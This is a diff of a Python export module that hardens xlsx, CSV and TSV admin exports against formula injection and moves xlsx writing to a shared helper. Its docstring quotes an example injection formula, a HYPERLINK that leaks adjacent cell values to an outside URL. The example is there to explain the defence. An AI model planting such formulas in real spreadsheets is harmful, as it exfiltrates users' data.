@@ -7,7 +7,8 @@ formula: `=HYPERLINK("http://…?d="&C5,"clic")` leaks the neighbouring cells wh
 - xlsx: every text is written as a text cell (never a formula), with its exact characters, so the
   planning workbook re-imports unchanged. openpyxl turns a string starting with `=` into a
   formula unless the cell's data type is forced; XlsxWriter's `write()` does the same unless the
-  workbook is opened with `XLSXWRITER_OPTIONS`.
+  workbook is opened with `XLSXWRITER_OPTIONS`. Every xlsx goes through `isvimed_planning.xlsx`,
+  which uses these helpers.
 - CSV: a text cell starting with a dangerous character gets a leading `'` (OWASP, "CSV
   Injection"); the csv module quotes any cell holding a separator, quote or line break.
   Numbers stay numbers, negative ones included.
@@ -17,7 +18,6 @@ formula: `=HYPERLINK("http://…?d="&C5,"clic")` leaks the neighbouring cells wh
 from __future__ import annotations
 
 import csv
-import io
 import re
 import unicodedata
 from decimal import Decimal
@@ -81,13 +81,6 @@ def _as_text(cell):
     return cell
 
 
-def put(ws, row: int, column: int, value):
-    """`ws.cell(row, column, value)` of openpyxl, with text always a text cell."""
-    cell = ws.cell(row=row, column=column)
-    cell.value = value
-    return _as_text(cell)
-
-
 def write_only_cell(ws, value):
     """A cell for a write-only openpyxl sheet; text always a text cell."""
     from openpyxl.cell import WriteOnlyCell
@@ -104,28 +97,6 @@ def write_only_value(ws, value):
     """`value` for `ws.append()` of a write-only sheet: a text cell when openpyxl would not write
     it as text, else unchanged (wrapping every string costs half as much again as the export)."""
     return write_only_cell(ws, value) if _read_as_other_than_text(value) else value
-
-
-def write_only_row(ws, values) -> list:
-    return [write_only_value(ws, v) for v in values]
-
-
-def neutralise_workbook(wb) -> None:
-    """Turn any formula cell of an (ordinary, not write-only) openpyxl workbook into its text.
-
-    The application writes no formulas, so a formula cell can only be text that slipped past
-    `put`, e.g. `ws["A1"] = …`."""
-    for ws in wb.worksheets:
-        for row in ws.iter_rows():
-            for cell in row:
-                _as_text(cell)
-
-
-def workbook_bytes(wb) -> bytes:
-    neutralise_workbook(wb)
-    buffer = io.BytesIO()
-    wb.save(buffer)
-    return buffer.getvalue()
 
 
 # --- Download names ----------------------------------------------------------------------------
@@ -191,24 +162,17 @@ class SafeTSV(base_formats.TSV):
 
 class SafeXLSX(base_formats.XLSX):
     def export_data(self, dataset, **kwargs):
-        import datetime as dt
-
-        from openpyxl import Workbook
         from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-        wb = Workbook()
-        ws = wb.active
-        ws.title = (dataset.title or "Hoja")[:31]
+        from isvimed_planning.xlsx import Sheet, write_xlsx
+
+        def clean(value):
+            # Control characters are replaced as before, when openpyxl refused them.
+            return ILLEGAL_CHARACTERS_RE.sub("-", value) if isinstance(value, str) else value
+
         rows = ([dataset.headers] if dataset.headers else []) + [list(r) for r in dataset]
-        for r, row in enumerate(rows, start=1):
-            for c, value in enumerate(row, start=1):
-                if isinstance(value, dt.datetime) and value.tzinfo is not None:
-                    value = value.replace(tzinfo=None)
-                elif isinstance(value, str):
-                    value = ILLEGAL_CHARACTERS_RE.sub("-", value)
-                put(ws, r, c, value)
-        ws.freeze_panes = "A2"
-        return workbook_bytes(wb)
+        sheet = Sheet(name=(dataset.title or "Hoja")[:31], rows=([clean(v) for v in row] for row in rows), freeze=(1, 0))
+        return write_xlsx([sheet])
 
 
 ADMIN_EXPORT_FORMATS = [SafeCSV, SafeXLSX, SafeTSV, base_formats.JSON]
